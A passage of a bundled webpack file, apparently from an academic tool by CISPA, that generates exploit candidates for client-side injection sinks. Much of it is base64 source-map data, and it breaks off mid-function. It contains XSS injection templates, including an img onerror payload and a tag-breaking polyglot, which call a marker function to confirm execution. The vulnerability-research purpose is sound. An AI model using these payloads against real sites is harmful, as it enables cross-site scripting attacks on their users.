CI6IFwibGVmdFwiLFxuICAgIFwidmFsXCI6IG5vbmNlXzFcbiAgfSk7XG5cbiAgZXhwbG9pdHMuc2V0KG5vbmNlXzEsIHtcbiAgICBcInR5cGVcIjogXCJMb2dpY2FsXCIsXG4gICAgXCJvcFwiOiAnJiYnLFxuICAgIFwibF92YWxcIjoga2V5X2NvbnN0LFxuICAgIFwicl92YWxcIjogdmFsX2NvbnN0XG4gIH0pO1xuXG4gIHJldHVybiBleHBsb2l0c1xufVxuXG5mdW5jdGlvbiBnZXRIVE1MRXhwbG9pdHMoc2lua09iamVjdCkge1xuICBsZXQgZXhwbG9pdHMgPSBuZXcgTWFwKCk7XG5cbiAgbGV0IG5vbmNlXzEgPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IGV4cDEgPSBkZWVwQ2xvbmUoc2lua09iamVjdClcbiAgbGV0IGltZ19wYXlsb2FkID0gJzxpbWcgc3JjPVwiZm9vXCIgb25lcnJvcj1cIl9fY3Jhd2x5X18oYF9fcmVwb3J0X2lkYClcIiBvbmxvYWQ9XCJfX2NyYXdseV9fKGBfX3JlcG9ydF9pZGApXCI+PHRleHRhcmVhPic7XG4gIGV4cDEub3BzLnB1c2goe1xuICAgIFwidHlwZVwiOiBcIm1lbWJlcl9mdW5jdGlvblwiLFxuICAgIFwiZnVuY3Rpb25fbmFtZVwiOiBcImluZGV4T2ZcIixcbiAgICBcImFyZ3NcIjogW2ltZ19wYXlsb2FkLnJlcGxhY2UoL19fcmVwb3J0X2lkL2csIG5vbmNlXzEpXSxcbiAgfSk7XG4gIGV4cDEub3BzLnB1c2goe3R5cGU6ICdCaW5hcnknLCBvcDogJz4nLCBzaWRlOiAnbGVmdCcsIHZhbDogMH0pXG4gIGV4cGxvaXRzLnNldChub25jZV8xLCBleHAxKVxuICBsZXQgbm9uY2VfMyA9IHJhbmRvbVN0cmluZygpO1xuICBsZXQgZXhwMyA9IGRlZXBDbG9uZShzaW5rT2JqZWN0KTtcbiAgbGV0IHBvbHlnbG90ID0gXCJgJ1xcXCI+LS0hPjwvc3RZbGUvPC90aXRMZS88L3RlWHRhckVhLzwvc2NSaXB0Lz48aW1nL3NyYz1mb28gb05sb0FkPV9fY3Jhd2x5X18oYF9fcmVwb3J0X2lkYCkvLz5cXHgzZVxcblwiO1xuICBleHAzLm9wcy5wdXNoKHtcbiAgICBcInR5cGVcIjogXCJtZW1iZXJfZnVuY3Rpb25cIixcbiAgICBcImZ1bmN0aW9uX25hbWVcIjogXCJpbmRleE9mXCIsXG4gICAgXCJhcmdzXCI6IFtwb2x5Z2xvdC5yZXBsYWNlKC9fX3JlcG9ydF9pZC9nLCBub25jZV8zKV0sXG4gIH0pO1xuICBleHAzLm9wcy5wdXNoKHt0eXBlOiAnQmluYXJ5Jywgb3A6ICc+Jywgc2lkZTogJ2xlZnQnLCB2YWw6IDB9KTtcbiAgZXhwbG9pdHMuc2V0KG5vbmNlXzMsIGV4cDMpO1xuXG5cbiAgcmV0dXJuIGV4cGxvaXRzXG5cbn1cblxuZnVuY3Rpb24gZ2V0T3JpZ2luQ29uc3RyYWludHMoKSB7XG4gIHJldHVybiB7XG4gICAgdHlwZTogJ0xvZ2ljYWwnLCBvcDogJ3x8JywgbF92YWw6IHtcbiAgICAgIFwib3BzXCI6IFtcbiAgICAgICAge1xuICAgICAgICAgIFwidHlwZVwiOiBcIm9wc19vbl9wYXJlbnRfZWxlbWVudFwiLFxuICAgICAgICAgIFwib2xkX2lkZW50aWZpZXJcIjogXCJldmVudFwiLFxuICAgICAgICAgIFwib2xkX29wc1wiOiBbXVxuICAgICAgICB9LFxuICAgICAgICB7XG4gICAgICAgICAgXCJ0eXBlXCI6IFwibWVtYmVyX2Z1bmN0aW9uXCIsXG4gICAgICAgICAgXCJmdW5jdGlvbl9uYW1lXCI6IFwic3Vic3RyaW5nXCIsXG4gICAgICAgICAgXCJhcmdzXCI6IFtcbiAgICAgICAgICAgIDAsIDdcbiAgICAgICAgICBdXG4gICAgICAgIH0sXG4gICAgICAgIHtcbiAgICAgICAgICBcInR5cGVcIjogJ0JpbmFyeScsXG4gICAgICAgICAgXCJzaWRlXCI6IFwibGVmdFwiLFxuICAgICAgICAgIFwidmFsXCI6IFwiaHR0cDovL1wiLFxuICAgICAgICAgIFwib3BcIjogJz09PSdcbiAgICAgICAgfVxuICAgICAgXSxcbiAgICAgIFwiaWRlbnRpZmllclwiOiBcImV2ZW50Lm9yaWdpblwiXG4gICAgfSwgcl92YWw6IHtcbiAgICAgIFwib3BzXCI6IFtcbiAgICAgICAge1xuICAgICAgICAgIFwidHlwZVwiOiBcIm9wc19vbl9wYXJlbnRfZWxlbWVudFwiLFxuICAgICAgICAgIFwib2xkX2lkZW50aWZpZXJcIjogXCJldmVudFwiLFxuICAgICAgICAgIFwib2xkX29wc1wiOiBbXVxuICAgICAgICB9LFxuICAgICAgICB7XG4gICAgICAgICAgXCJ0eXBlXCI6IFwibWVtYmVyX2Z1bmN0aW9uXCIsXG4gICAgICAgICAgXCJmdW5jdGlvbl9uYW1lXCI6IFwic3Vic3RyaW5nXCIsXG4gICAgICAgICAgXCJhcmdzXCI6IFtcbiAgICAgICAgICAgIDAsIDhcbiAgICAgICAgICBdXG4gICAgICAgIH0sXG4gICAgICAgIHtcbiAgICAgICAgICBcInR5cGVcIjogJ0JpbmFyeScsXG4gICAgICAgICAgXCJzaWRlXCI6IFwibGVmdFwiLFxuICAgICAgICAgIFwidmFsXCI6IFwiaHR0cHM6Ly9cIixcbiAgICAgICAgICBcIm9wXCI6ICc9PT0nXG4gICAgICAgIH1cbiAgICAgIF0sXG4gICAgICBcImlkZW50aWZpZXJcIjogXCJldmVudC5vcmlnaW5cIlxuICAgIH1cbiAgfVxufVxuXG5mdW5jdGlvbiBnZXRDb29raWVFeHBsb2l0cyhzaW5rT2JqZWN0KSB7XG4gIGxldCBub25jZTEgPSByYW5kb21TdHJpbmcoKTtcbiAgbGV0IGV4cGxvaXRzID0gbmV3IE1hcCgpO1xuXG5cbiAgbGV0IGNvbnN0cmFpbnRzID0gZGVlcENsb25lKHNpbmtPYmplY3QpO1xuICBjb25zdHJhaW50cy5vcHMucHVzaCh7XG4gICAgXCJ0eXBlXCI6IFwibWVtYmVyX2Z1bmN0aW9uXCIsXG4gICAgXCJmdW5jdGlvbl9uYW1lXCI6IFwic3RhcnRzV2l0aFwiLFxuICAgIFwiYXJnc1wiOiBbbm9uY2UxICsgJz0nICsgbm9uY2UxICsgJzsnXVxuICB9KTtcbiAgZXhwbG9pdHMuc2V0KG5vbmNlMSwgY29uc3RyYWludHMpO1xuXG4gIHJldHVybiBleHBsb2l0c1xufVxuXG5hc3luYyBmdW5jdGlvbiBnZW5lcmF0ZUV4cGxvaXRGb3JSZXBvcnQocmVwb3J0LCBoYW5kbGVyX2lkKSB7XG4gIGNvbnNvbGUubG9nKCc9PT09PT09PT09PT09Jyk7XG4gIGNvbnNvbGUubG9nKCdTdGFydGluZyBleHBsb2l0IGdlbmVyYXRpb24gZm9yICcsIHJlcG9ydCk7XG4gIGxldCBpbmZlcnJlZF90eXBlcyA9IHt9O1xuICB0cnkge1xuICAgIC8vaW5mZXJyZWRfdHlwZXMgPSBpbmZlclR5cGVzKHJlcG9ydC5ldilcbiAgICBpbmZlcnJlZF90eXBlcyA9IHJlcG9ydC50eXBlSW5mbztcbiAgfSBjYXRjaCAoZSkge1xuICAgIGNvbnNvbGUuZXJyb3IoJ0Vycm9yIHdoZW4gaW5mZXJpbmcgdHlwZXMnLCBlKVxuICB9XG4gIGxldCBzaW5rX29ial9jb25zdHJhaW50cztcbiAgc3dpdGNoIChTSU5LX01BUFBJTkdbcmVwb3J0LnNpbmtdKSB7XG4gICAgY2FzZSAnSlMnOlxuICAgICAgc2lua19vYmpfY29uc3RyYWludHMgPSBnZXRKU0V4cGxvaXRzKHJlcG9ydC5zaW5rT2JqZWN0KTtcbiAgICAgIGJyZWFrO1xuICAgIGNhc2UgJ0hUTUwnOlxuICAgICAgc2lua19vYmpfY29uc3RyYWludHMgPSBnZXRIVE1MRXhwbG9pdHMocmVwb3J0LnNpbmtPYmplY3QpO1xuICAgICAgYnJlYWs7XG4gICAgY2FzZSAnc3RvcmFnZSc6XG4gICAgICBzaW5rX29ial9jb25zdHJhaW50cyA9IGdldFN0b3JhZ2VFeHBsb2l0cyhyZXBvcnQua2V5X29iaiwgcmVwb3J0LnZhbF9vYmopO1xuICAgICAgYnJlYWs7XG4gICAgY2FzZSAnY29va2llJzpcbiAgICAgIHNpbmtfb2JqX2NvbnN0cmFpbnRzID0gZ2V0Q29va2llRXhwbG9pdHMocmVwb3J0LnNpbmtPYmplY3QpO1xuICAgICAgYnJlYWs7XG5cbiAgICBkZWZhdWx0OlxuICAgICAgdGhyb3cgRXJyb3IoJ1Npbmsgbm90IHlldCBzdXBwb3J0ZWQgJyArIHJlcG9ydC5zaW5rKVxuICB9XG5cbiAgbGV0IGNzID0gcmVwb3J0Wydjb25zdHJhaW50cyddO1xuICBsZXQgY29uc3RyYWludElkID0gYXdhaXQgd2luZG93Ll9fcmVwb3J0QmFzZUNvbnN0cmFpbnQoY3MsIGhhbmRsZXJfaWQpO1xuXG4gIGxldCBvcmlnaW5fY29uc3RyYWludCA9IGdldE9yaWdpbkNvbnN0cmFpbnRzKCk7XG4gIGxldCBleHBsb2l0X2NhbmRpZGF0ZXMgPSBbXTtcbiAgZm9yIChsZXQgZXhwbG9pdElkIG9mIHNpbmtfb2JqX2NvbnN0cmFpbnRzLmtleXMoKSkge1xuICAgIGxldCBjYW5kaWRhdGUgPSBzaW5rX29ial9jb25zdHJhaW50cy5nZXQoZXhwbG9pdElkKTtcbiAgICBsZXQgY3NfY2xvbmVkID0gZGVlcENsb25lKGNzKTtcbiAgICAvLyBhcHBlbmQgZXhwbG9pdCBjb25zdHJhaW50c1xuICAgIGNzX2Nsb25lZC5wdXNoKGNhbmRpZGF0ZSk7XG4gICAgLy8gYXBwZW5kIGNvbnN0cmFpbnRzIGZvciBvcmlnaW4sIGUuZy4gc3RhcnRzIHdpdGggaHR0cCBldGNcbiAgICBjc19jbG9uZWQucHVzaChvcmlnaW5fY29uc3RyYWludCk7XG4gICAgLy8gc29sdmVcbiAgICBsZXQgcmVzID0gYXdhaXQgd2luZG93Ll9fdHJ5U29sdmVGb3JTYXQoY3NfY2xvbmVkLCBpbmZlcnJlZF90eXBlcywgY29uc3RyYWludElkLCBbY2FuZGlkYXRlLCBvcmlnaW5fY29uc3RyYWludF0sIHJlcG9ydFsnc2luayddKTtcbiAgICBpZiAocmVzICE9PSB1bmRlZmluZWQpIHtcbiAgICAgIGV4cGxvaXRfY2FuZGlkYXRlcy5wdXNoKHtleHBsb2l0Q2FuZGlkYXRlSWQ6IHJlc1sxXSwgZXhwbG9pdElkOiBleHBsb2l0SWQsIHBheWxvYWRfc2F0OiByZXNbMF19KTtcbiAgICB9XG4gIH1cbiAgaWYgKGV4cGxvaXRfY2FuZGlkYXRlcy5sZW5ndGggPT09IDApIHtcbiAgICByZXR1cm4gdW5kZWZpbmVkXG4gIH1cbiAgbGV0IG1lc3NhZ2VzID0gW107XG4gIGZvciAobGV0IGVudHJ5IG9mIGV4cGxvaXRfY2FuZGlkYXRlcykge1xuICAgIGxldCBtZXNzMSA9IGdlbmVyYXRlT2JqZWN0RnJvbUFzc2lnbmVtZW50cyhlbnRyeVsncGF5bG9hZF9zYXQnXVsnYXNzaWduZW1lbnRzJ10pWydldmVudCddO1xuICAgIGxldCBtZXNzMiA9IGdlbmVyYXRlT2JqZWN0RnJvbUFzc2lnbmVtZW50cyhlbnRyeVsncGF5bG9hZF9zYXQnXVsnYXNzaWduZW1lbnRzJ10sIHVuZGVmaW5lZCwgZmFsc2UpWydldmVudCddO1xuICAgIG1lc3NhZ2VzLnB1c2goe1xuICAgICAgZXhwbG9pdElkOiBlbnRyeVsnZXhwbG9pdElkJ10sXG4gICAgICBleHBsb2l0Q2FuZGlkYXRlSWQ6IGVudHJ5WydleHBsb2l0Q2FuZGlkYXRlSWQnXSxcbiAgICAgIG1lc3NhZ2U6IGFkanVzdEZvclR5cGVzKG1lc3MxLCBlbnRyeVsncGF5bG9hZF9zYXQnXVsndHlwZXMnXSlcbiAgICB9KTtcbiAgICBtZXNzYWdlcy5wdXNoKHtcbiAgICAgIGV4cGxvaXRJZDogZW50cnlbJ2V4cGxvaXRJZCddLFxuICAgICAgZXhwbG9pdENhbmRpZGF0ZUlkOiBlbnRyeVsnZXhwbG9pdENhbmRpZGF0ZUlkJ10sXG4gICAgICBtZXNzYWdlOiBhZGp1c3RGb3JUeXBlcyhtZXNzMiwgZW50cnlbJ3BheWxvYWRfc2F0J11bJ3R5cGVzJ10pXG4gICAgfSk7XG5cbiAgfVxuICByZXR1cm4ge1xuICAgIGNhbmRpZGF0ZXM6IG1lc3NhZ2VzLFxuICAgIHNpbms6IHJlcG9ydC5zaW5rXG4gIH07XG59XG5cbmZ1bmN0aW9uIGFkanVzdEZvclR5cGVzKG9iaiwgdHlwZXMpIHtcbiAgZm9yIChsZXQga2V5IG9mIE9iamVjdC5rZXlzKHR5cGVzKSkge1xuICAgIGlmICh0eXBlc1trZXldICE9PSAnSlNPTicpIHtcbiAgICAgIGNvbnRpbnVlO1xuICAgIH1cbiAgICBsZXQgc3BsaXR0ZWQgPSBrZXkuc3BsaXQoJy4nKTtcbiAgICBsZXQgbGFzdCA9IHNwbGl0dGVkLnNsaWNlKC0xKTtcbiAgICBsZXQgYWNjZXNzb3JzID0gc3BsaXR0ZWQuc2xpY2UoMCwgc3BsaXR0ZWQubGVuZ3RoIC0gMSk7XG4gICAgbGV0IGN1cl9vYmogPSBvYmo7XG4gICAgZm9yIChsZXQgYWNjZXNzb3Igb2YgYWNjZXNzb3JzKSB7XG4gICAgICBpZiAoYWNjZXNzb3Iuc3RhcnRzV2l0aCgnX19lbGVtX18nKSkge1xuICAgICAgICBsZXQgbnVtID0gcGFyc2VJbnQoYWNjZXNzb3Iuc2xpY2UoOCkpO1xuICAgICAgICBpZiAoIUFycmF5LmlzQXJyYXkoY3VyX29iaikpIHtcbiAgICAgICAgfVxuICAgICAgICBhY2Nlc3NvciA9IG51bTtcbiAgICAgIH1cbiAgICAgIGlmIChjdXJfb2JqW2FjY2Vzc29yXSA9PT0gdW5kZWZpbmVkKSB7XG4gICAgICAgIGJyZWFrO1xuICAgICAgfVxuICAgICAgY3VyX29iaiA9IGN1cl9vYmpbYWNjZXNzb3JdO1xuICAgIH1cbiAgICBjdXJfb2JqW2xhc3RdID0gSlNPTi5zdHJpbmdpZnkoY3VyX29ialtsYXN0XSlcbiAgfVxuICByZXR1cm4gb2JqXG59XG5cbmZ1bmN0aW9uIGdlbmVyYXRlT2JqZWN0RnJvbUFzc2lnbmVtZW50cyhhc3NpZ25lbWVudCwgb2JqID0gdW5kZWZpbmVkLCBkb250X3VzZV9lbXB0eSA9IHRydWUpIHtcbiAgaWYgKG9iaiA9PT0gdW5kZWZpbmVkKSB7XG4gICAgb2JqID0ge307XG4gIH1cbiAgZm9yIChsZXQga2V5IG9mIE9iamVjdC5rZXlzKGFzc2lnbmVtZW50KSkge1xuICAgIGlmIChkb250X3VzZV9lbXB0eSAmJiBhc3NpZ25lbWVudFtrZXldID09PSAnJykge1xuICAgICAgY29udGludWVcbiAgICB9XG4gICAgaWYgKHR5cGVvZiBhc3NpZ25lbWVudFtrZXldID09PSAnc3RyaW5nJykge1xuICAgICAgYXNzaWduZW1lbnRba2V5XSA9IGFzc2lnbmVtZW50W2tleV0ucmVwbGFjZSgvXFxcXHgoWzAtOUEtRl17Mn0pL2lnLCBmdW5jdGlvbiAoKSB7XG4gICAgICAgIHJldHVybiBTdHJpbmcuZnJvbUNoYXJDb2RlKHBhcnNlSW50KGFyZ3VtZW50c1sxXSwgMTYpKTtcbiAgICAgIH0pO1xuICAgIH1cbiAgICBsZXQgc3BsaXR0ZWQgPSBrZXkuc3BsaXQoJy4nKTtcbiAgICBsZXQgbGFzdCA9IHNwbGl0dGVkLnNsaWNlKC0xKTtcbiAgICBsZXQgYWNjZXNzb3JzID0gc3BsaXR0ZWQuc2xpY2UoMCwgc3BsaXR0ZWQubGVuZ3RoIC0gMSk7XG4gICAgbGV0IGN1cl9vYmogPSBvYmo7XG4gICAgZm9yIChsZXQgYWNjZXNzb3Igb2YgYWNjZXNzb3JzKSB7XG4gICAgICBpZiAoYWNjZXNzb3Iuc3RhcnRzV2l0aCgnX19lbGVtX18nKSkge1xuICAgICAgICBsZXQgbnVtID0gcGFyc2VJbnQoYWNjZXNzb3Iuc2xpY2UoOCkpO1xuICAgICAgICBpZiAoIUFycmF5LmlzQXJyYXkoY3VyX29iaikpIHtcbiAgICAgICAgfVxuICAgICAgICBhY2Nlc3NvciA9IG51bTtcbiAgICAgIH1cbiAgICAgIGlmIChjdXJfb2JqW2FjY2Vzc29yXSA9PT0gdW5kZWZpbmVkKSB7XG4gICAgICAgIGN1cl9vYmpbYWNjZXNzb3JdID0ge307XG4gICAgICB9IGVsc2Uge1xuICAgICAgICBhZGRQcm9wVG9PYmooY3VyX29iaiwgYWNjZXNzb3IpO1xuICAgICAgfVxuICAgICAgY3VyX29iaiA9IGN1cl9vYmpbYWNjZXNzb3JdO1xuICAgIH1cbiAgICBpZiAoY3VyX29ialtsYXN0WzBdXSA9PT0gdW5kZWZpbmVkKVxuICAgICAgY3VyX29ialtsYXN0WzBdXSA9IGFzc2lnbmVtZW50W2tleV07XG4gICAgZWxzZSB7XG4gICAgICAvLyB0aGlzIGNhc2Ugb25seSBoYXBwZW5zIHdoZW4gd2UgaGF2ZSBhbiBhc3NpZ25lbWVudCBmb3IgYSBwYXJlbnQgb2JqZWN0IHdoaWNoIGlzIGhvd2V2ZXIgYWxyZWFkeSBhbiBvYmplY3QgdGh1cyB3ZSBjYW5ub3QgZG8gaXRcbiAgICAgIGN1cl9vYmpbbGFzdFswXV1bJ19faG9wZV9mb3JfdGhlX2Jlc3QnXSA9IGFzc2lnbmVtZW50W2tleV1cbiAgICB9XG4gIH1cbiAgcmVzb2x2ZVN1YnN0aXR1dGVWYWxzKG9iaiwgb2JqKTtcbiAgcmV0dXJuIG9iajtcbn1cblxuZnVuY3Rpb24gcmVzb2x2ZVN1YnN0aXR1dGVWYWxzKG9iaiwgZykge1xuICBpZiAoQXJyYXkuaXNBcnJheShvYmopKSB7XG4gICAgZm9yIChsZXQgaSA9IDA7IGkgPCBvYmoubGVuZ3RoOyBpKyspIHtcbiAgICAgIGxldCBlbGVtID0gcmVzb2x2ZVN1YnN0aXR1dGVWYWxzKG9ialtpXSwgZyk7XG4gICAgICBpZiAoZWxlbSkge1xuICAgICAgICBvYmpbaV0gPSBlbGVtO1xuICAgICAgfVxuICAgIH1cbiAgfSBlbHNlIGlmICh0eXBlb2Ygb2JqID09PSAnb2JqZWN0Jykge1xuICAgIGZvciAobGV0IGtleSBvZiBPYmplY3Qua2V5cyhvYmopKSB7XG4gICAgICBsZXQgZWxlbSA9IHJlc29sdmVTdWJzdGl0dXRlVmFscyhvYmpba2V5XSwgZyk7XG4gICAgICBpZiAoZWxlbSkge1xuICAgICAgICBvYmpba2V5XSA9IGVsZW1cbiAgICAgIH1cbiAgICB9XG4gIH0gZWxzZSBpZiAodHlwZW9mIG9iaiA9PT0gJ3N0cmluZycgJiYgb2JqLnN0YXJ0c1dpdGgoJ19fc3Vic3RpdHV0ZV92YWx1ZXNfJykpIHtcbiAgICByZXR1cm4gZ1tvYmpdO1xuICB9XG59XG5cbmV4cG9ydCB7Z2VuZXJhdGVFeHBsb2l0Rm9yUmVwb3J0fVxuIl0sIm1hcHBpbmdzIjoiQUFBQTtBQUFBO0FBQUE7QUFBQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTtBQUNBO0FBQ0E7QUFDQTsiLCJzb3VyY2VSb290IjoiIn0=\n//# sourceURL=webpack-internal:///./ExploitGenerator.js\n");
+eval("__webpack_require__.r(__webpack_exports__);\n/* harmony export (binding) */ __webpack_require__.d(__webpack_exports__, \"generateExploitForReport\", function() { return generateExploitForReport; });\n/* harmony import */ var _util__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(/*! ./util */ \"./util.js\");\n/*\nCopyright (C) 2020  Marius Steffens, CISPA\n\nThis program is free software: you can redistribute it and/or modify\nit under the terms of the GNU Affero General Public License as published by\nthe Free Software Foundation, either version 3 of the License, or\n(at your option) any later version.\n\nThis program is distributed in the hope that it will be useful,\nbut WITHOUT ANY WARRANTY; without even the implied warranty of\nMERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the\nGNU Affero General Public License for more details.\n\nYou should have received a copy of the GNU Affero General Public License\nalong with this program.  If not, see <http://www.gnu.org/licenses/>.\n*/\n\n\n\nconst SINK_MAPPING = {\n  'eval': 'JS',\n  'document.write': 'HTML',\n  'document.writeln': 'HTML',\n  'innerHTML': 'HTML',\n  'jquery': 'HTML',\n  'scriptTextContent': 'JS',\n  'insertAdjacentHTML': 'HTML',\n  'postMessage': 'PM',\n  'storage': 'storage',\n  'cookie': 'cookie',\n\n};\n\nfunction addPropToObj(obj, acc) {\n  if (typeof obj[acc] === 'object') {\n    // all good we have nothig to worry bout and can just add another one if necessary\n  } else {\n    // well we have constraint solved that parts of the thing needs to be that specific string\n    // substitute the string to a random key and hope for the best\n    let cur_value = obj[acc];\n    obj[acc] = {};\n    obj[acc]['__hope_for_the_best'] = cur_value;\n  }\n}\n\nfunction getJSExploits(sinkObject) {\n  let left, right;\n  let nonce_1 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let nonce_2 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let nonce_3 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let nonce_4 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let nonce_5 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let nonce_6 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let nonce_7 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let nonce_8 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n  let nonce_9 = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"randomString\"])();\n\n\n  let exploits = new Map();\n  let startswith_exploit_1 = {\n    \"type\": \"member_function\",\n    \"function_name\": \"startsWith\",\n    \"args\": [\n      '__crawly__(\"' + nonce_1 + '\")/*'\n    ]\n  };\n  let endswith_exploit_1 = {\n    \"type\": \"member_function\",\n    \"function_name\": \"endsWith\",\n    \"args\": [\n      ' */'\n    ]\n  };\n  left = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  right = Object(_util__WEBPACK_IMPORTED_MODULE_0__[\"deepClone\"])(sinkObject);\n  left.ops.push(startswith_exploit_1);\n  right.ops.push(endswith_exploit_1);\n\n  let exp_1 = {type: 'Logical', op: '&&', l_val: left, r_val: right};\n  exploits.set(nonce_1, exp_1);\n\n  let startswith_exploit_2 = {\n    \"type\": \"member_function\",\n    